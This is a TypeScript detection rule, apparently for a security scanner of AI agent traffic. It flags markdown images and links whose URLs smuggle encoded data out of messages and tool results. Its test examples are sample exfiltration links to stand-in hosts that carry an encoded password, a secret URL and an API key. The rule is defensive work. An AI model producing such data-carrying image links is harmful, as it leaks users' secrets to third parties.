import { addressClass, fromBase64, scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "EXFIL_103",
  title: "Link or image whose address carries encoded data",
  why: "The data is already in the address: a long encoded part that no picture needs.",
  fix: "Do not load it; decode the part and see what would have left.",
  severity: "high",
  category: "exfiltration",
  lane: "block",
  maps: { asi: ["ASI02"], mcp: ["MCP06"], cwe: ["CWE-201"] },
  reads: ["message", "prompt", "tool_result", "resource", "document", "tool_argument"],
  keywords: ["](http", "<img", "](  http", "src=http"],
  match: scan(
    /!?\[[^\]\n]{0,120}\]\(\s{0,3}(https?:\/\/[^\s)]{24,2000})|<img\b[^<>]{0,80}?\bsrc\s{0,2}=\s{0,2}["']?(https?:\/\/[^\s"'<>]{24,2000})/i,
    (match) => carriesText(match[1] ?? match[2] ?? ""),
  ),
  examples: {
    flags: [
      "![ok](https://c.example.net/p.png?d=" + "cGFzc3dvcmQ9" + "aHVudGVyMiZ1" + "c2VyPWFkYQ==" + ")",
      {
        text: '<img src="https://t.example/o.gif?q=' + "68747470733a2f2f6" + "578616d706c652e63" +
          "6f6d2f736563726574" + '">',
        kind: "tool_result",
      },
      {
        text: "[details](https://x.example.org/c?m=" + "dGhlIGtleSB" + "pcyBza19saX" + "ZlX2FiYzEyMw" + ")",
        kind: "document",
      },
    ],
    passes: [
      "![chart](https://charts.example.com/c?type=bar&width=300&height=200)",
      "![badge](https://img.shields.io/badge/build-passing-brightgreen.svg?style=flat-square)",
      "[doc](https://docs.example.com/d/1W7KCxOxP1Fy5EyF2lbJGE2WuKmu5v0suYqoHas1jRM/edit)",
    ],
  },
});

/** A parameter that decodes to readable text of some length, in an address of another host. Random identifiers decode to noise. */
function carriesText(address: string): boolean {
  if (!/^(?:name|public|documentation)$/.test(addressClass(/^https?:\/\/([^\/?#:]+)/i.exec(address)?.[1] ?? ""))) {
    return false;
  }
  for (const [, value = ""] of address.matchAll(/[?&;][\w.-]{1,30}=([A-Za-z0-9+\/_=%-]{24,1500})/g)) {
    const plain = /^(?:[0-9a-f]{2}){12,}$/i.test(value) ? fromHex(value) : fromBase64(value.replaceAll(/%3d/gi, "="));
    if (plain !== null && plain.length >= 16 && /^[\x20-\x7e\s]+$/.test(plain) && /[ =:@{"]/.test(plain)) return true;
  }
  return false;
}

function fromHex(text: string): string {
  return text.replace(/../g, (pair) => String.fromCharCode(Number.parseInt(pair, 16)));
}
